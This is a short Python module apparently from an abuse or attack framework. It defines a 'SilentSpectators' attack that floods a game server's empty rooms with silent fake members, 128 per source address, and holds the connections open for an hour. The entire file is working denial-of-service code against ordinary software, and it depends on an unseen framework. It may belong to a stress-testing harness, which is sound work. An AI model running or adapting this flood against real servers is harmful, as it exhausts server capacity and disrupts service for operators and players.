from abuse.attack import Attack


class SilentSpectators(Attack):
    name = "silent_spectators"
    what = "sits silently in rooms without players, 128 from each address"

    def run(self):
        members = []
        for seat in range(128):
            for number, source in enumerate(self.sources):
                if self.stop.is_set():
                    return
                one = self.member(source, nick="s", crc=0xA000 + seat // 16 * 256 + number)
                if one:
                    members.append(one)
            self.pump(members)
        self.pump(members, 3600)
